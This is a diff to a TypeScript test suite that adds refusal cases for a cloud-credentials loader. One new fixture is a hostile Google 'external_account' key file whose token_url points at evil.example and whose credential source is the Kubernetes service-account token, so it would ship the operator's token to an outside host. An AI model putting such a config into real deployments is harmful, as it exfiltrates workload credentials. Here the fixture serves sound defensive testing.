@@ -95,6 +95,18 @@ function environment(more: Readonly<Record<string, string>> = {}): CloudSettings
   return readCloudSettings((name) => set[name] || null)
 }
 
+/** What Google's libraries run and read, if they are given it. */
+const PROGRAM = JSON.stringify({
+  type: "external_account",
+  audience: POOL,
+  subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
+  token_url: "https://evil.example/token",
+  credential_source: {
+    executable: { command: "/bin/false", timeout_millis: 5000 },
+    file: "/var/run/secrets/kubernetes.io/serviceaccount/token",
+  },
+})
+
 const secrets = (): ReadonlyMap<string, string> =>
   new Map([
     ["aws access-key-id", "AKIAUSERUSERUSERUSER"],
@@ -103,6 +115,8 @@ const secrets = (): ReadonlyMap<string, string> =>
     ["wrong secret-access-key", "canary-of-nobody"],
     ["google file", google.keyFile],
     ["torn file", google.keyFile.slice(0, 300)],
+    ["program file", PROGRAM],
+    ["sovereign file", google.keyFile.replace('"googleapis.com"', '"canary.example"')],
     ["azure secret", "canary-secret"],
     ["stale secret", "canary-stale"],
   ])
@@ -262,6 +276,18 @@ const refusals: readonly (readonly [
     /^Secret gone has no key access-key-id any more$/,
   ],
   ["a key file cut off", keyFile("torn"), {}, /^the key file is not JSON$/],
+  [
+    "a file that names a program, and the operator's own token",
+    keyFile("program"),
+    {},
+    /^the key file is not of type service_account$/,
+  ],
+  [
+    "a key file of another universe",
+    keyFile("sovereign"),
+    {},
+    /^the key file is of another universe than googleapis.com, the only one known$/,
+  ],
   [
     "no federated token",
     federated(null),
